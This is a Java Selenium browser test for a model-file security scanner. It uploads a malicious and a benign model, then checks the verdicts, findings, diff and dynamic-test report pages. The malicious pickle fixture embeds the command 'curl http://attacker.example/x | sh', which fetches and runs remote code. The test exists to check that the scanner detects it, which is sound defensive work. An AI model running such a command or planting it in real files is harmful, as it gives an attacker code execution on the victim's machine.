package io.modelvet.server;

import static org.assertj.core.api.Assertions.assertThat;

import io.modelvet.server.auth.Role;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.openqa.selenium.By;
import org.openqa.selenium.Dimension;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The web pages in a real browser (Debian's chromium + chromium-driver, headless): sign in, upload
 * a malicious and a benign version of one model, see the verdicts, open a finding, open the diff.
 * Screenshots go to {@code target/screenshots}.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BrowserFlowTest {
  private static final Path CHROMIUM = Path.of("/usr/bin/chromium");
  private static final Path DRIVER = Path.of("/usr/bin/chromedriver");
  private Path tmp;
  private ModelVetServer server;
  private WebDriver browser;
  private String token;
  private final Path shots = Path.of("target/screenshots");

  @BeforeAll
  void start() throws Exception {
    if (!Files.isExecutable(CHROMIUM) || !Files.isExecutable(DRIVER)) {
      if ("true".equalsIgnoreCase(System.getenv("CI"))) Assertions.fail("CI=true but chromium/chromium-driver are not installed");
      System.err.println("SKIPPED browser tests: install Debian's chromium and chromium-driver (.ci/run does)");
      Assumptions.abort("chromium not installed");
    }
    tmp = Files.createTempDirectory("modelvet-web");
    server = ModelVetServer.start(ServerConfig.defaults(tmp.resolve("data")).withPort(0));
    token = server.tokens().create("alice", Role.SUBMITTER);
    Files.createDirectories(shots);
    ChromeOptions o = new ChromeOptions();
    o.setBinary(CHROMIUM.toFile());
    o.addArguments("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--user-data-dir=" + tmp.resolve("chrome-profile"), "--window-size=1100,1000");
    ChromeDriverService svc = new ChromeDriverService.Builder().usingDriverExecutable(DRIVER.toFile()).usingAnyFreePort().build();
    browser = new ChromeDriver(svc, o);
    browser.manage().timeouts().pageLoadTimeout(Duration.ofSeconds(60));
  }

  @AfterAll
  void stop() {
    if (browser != null) browser.quit();
    if (server != null) server.stop(Duration.ofSeconds(5));
    TestFiles.deleteTree(tmp);
  }

  @Test
  void signInUploadTwoVersionsSeeVerdictsOpenAFindingAndTheDiff() throws Exception {
    String base = base();
    signIn();
    shot("1-dashboard-empty");

    Path evil = Files.write(tmp.resolve("classifier.pkl"), Fixtures.maliciousPickle("curl http://attacker.example/x | sh"));
    upload(base, evil, "acme/classifier");
    waitFor(d -> d.findElement(By.id("status")).getText().equals("done"));
    assertThat(browser.findElement(By.id("verdict")).getText()).isEqualToIgnoringCase("fail");
    WebElement finding = browser.findElement(By.cssSelector("details.finding"));
    WebElement evidence = finding.findElement(By.cssSelector("pre.evidence"));
    assertThat(evidence.isDisplayed()).isFalse();
    finding.findElement(By.tagName("summary")).click();
    assertThat(evidence.isDisplayed()).isTrue();
    assertThat(evidence.getText()).isEqualTo("os.system('curl http://attacker.example/x | sh')");
    assertThat(finding.findElement(By.cssSelector(".rule")).getText()).isEqualTo("pickle.denied-callable");
    shot("2-scan-malicious-finding-open");

    // filters work without JavaScript: a GET form
    new org.openqa.selenium.support.ui.Select(browser.findElement(By.id("severity"))).selectByValue("INFO");
    browser.findElement(By.cssSelector("form.filters button")).click();
    // the click navigates: read the count from the filtered page, not from the page being replaced
    waitFor(d -> d.getCurrentUrl().contains("severity=INFO") && d.findElement(By.id("shown")).getText().startsWith("1 of 1"));

    Path benign = Files.write(tmp.resolve("classifier.safetensors"), Fixtures.safetensors(32, 3));
    upload(base, benign, "acme/classifier");
    waitFor(d -> d.findElement(By.id("status")).getText().equals("done"));
    assertThat(browser.findElement(By.id("verdict")).getText()).isEqualToIgnoringCase("pass");
    shot("3-scan-benign");

    browser.get(base + "/");
    assertThat(browser.findElement(By.id("count-fail")).getText()).isEqualTo("1");
    assertThat(browser.findElement(By.id("count-pass")).getText()).isEqualTo("1");
    assertThat(browser.findElements(By.cssSelector("svg.chart rect.bar"))).hasSize(14);
    shot("4-dashboard");

    browser.findElement(By.linkText("acme/classifier")).click();
    waitFor(d -> d.findElement(By.tagName("h1")).getText().startsWith("Model"));
    assertThat(browser.findElements(By.cssSelector("tbody tr"))).hasSize(2);
    browser.findElement(By.id("compare")).click();
    waitFor(d -> d.findElement(By.tagName("h1")).getText().startsWith("Changes"));
    assertThat(browser.findElement(By.id("new")).getText()).isEqualTo("New (0)");
    assertThat(browser.findElement(By.id("resolved")).getText()).isEqualTo("Resolved (1)");
    assertThat(browser.findElement(By.cssSelector(".diff-resolved")).getText()).contains("pickle.denied-callable");
    assertThat(browser.findElement(By.tagName("body")).getText()).contains("added: classifier.safetensors").contains("removed: classifier.pkl");
    shot("5-diff");

    browser.manage().window().setSize(new Dimension(390, 900));
    browser.get(base + "/");
    shot("6-dashboard-narrow");
    Number scrollWidth = (Number) ((org.openqa.selenium.JavascriptExecutor) browser).executeScript("return document.documentElement.scrollWidth");
    assertThat(scrollWidth.intValue()).as("no horizontal scrolling on a phone-sized screen").isLessThanOrEqualTo(400);
  }

  @Test
  void dynamicTestFormRunsAJobAndOpensItsHtmlReport() throws Exception {
    signIn();
    browser.manage().window().setSize(new Dimension(1100, 1000));
    browser.findElement(By.linkText("Dynamic test")).click();
    waitFor(d -> d.findElement(By.tagName("h1")).getText().equals("Test an ONNX model"));
    Path fx = Path.of("../modelvet-dynamic/src/test/resources/fixtures").toAbsolutePath().normalize();
    browser.findElement(By.id("model")).sendKeys(fx.resolve("linear_bc.onnx").toString());
    browser.findElement(By.id("data")).sendKeys(fx.resolve("linear_bc_test.csv").toString());
    browser.findElement(By.id("target")).sendKeys("target");
    browser.findElement(By.id("test-stability")).click();
    shot("7-dynamic-test-form");
    browser.findElement(By.cssSelector("#test-form button")).click();
    waitFor(d -> d.getCurrentUrl().contains("/scans/"));
    waitFor(d -> d.findElement(By.tagName("h1")).getText().startsWith("Dynamic test: linear_bc.onnx")); // the page reloads itself until done
    waitFor(d -> d.findElement(By.id("status")).getText().equals("done"), 180);
    assertThat(browser.findElement(By.id("verdict")).getText()).isNotBlank();
    shot("8-dynamic-test-done");
    browser.findElement(By.linkText("HTML report")).click();
    waitFor(d -> d.getCurrentUrl().endsWith("/report.html"));
    assertThat(browser.getPageSource()).contains("stability");
    assertThat(browser.findElement(By.tagName("body")).getText()).containsIgnoringCase("stability");
    shot("9-dynamic-test-report");
  }

  private String base() {
    return "http://127.0.0.1:" + server.port();
  }

  /** Signs in through the form unless this browser already has a session. */
  private void signIn() {
    browser.get(base() + "/");
    if (browser.getCurrentUrl().endsWith("/login")) {
      browser.findElement(By.id("token")).sendKeys(token);
      browser.findElement(By.cssSelector("form[action='/login'] button")).click();
    }
    waitFor(d -> d.findElement(By.tagName("h1")).getText().equals("Dashboard"));
  }

  private void upload(String base, Path file, String model) {
    browser.get(base + "/upload");
    browser.findElement(By.id("file")).sendKeys(file.toString());
    browser.findElement(By.id("model")).sendKeys(model);
    browser.findElement(By.cssSelector("#upload-form button")).click();
    waitFor(d -> d.getCurrentUrl().contains("/scans/"));
  }

  private void waitFor(java.util.function.Function<WebDriver, Boolean> cond) {
    waitFor(cond, 60);
  }

  /** Waits for {@code cond}, ignoring the page reloading itself (the scan page refreshes until done); names the page on timeout. */
  private void waitFor(java.util.function.Function<WebDriver, Boolean> cond, int seconds) {
    try {
      new WebDriverWait(browser, Duration.ofSeconds(seconds)).ignoring(org.openqa.selenium.NoSuchElementException.class)
          .ignoring(org.openqa.selenium.StaleElementReferenceException.class).ignoring(org.openqa.selenium.WebDriverException.class).until(cond::apply);
    } catch (org.openqa.selenium.TimeoutException e) {
      throw new AssertionError("timed out on " + browser.getCurrentUrl() + ": " + browser.findElement(By.tagName("body")).getText(), e);
    }
  }

  private void shot(String name) throws Exception {
    byte[] png = ((org.openqa.selenium.TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES);
    Files.write(shots.resolve(name + ".png"), png);
  }

}
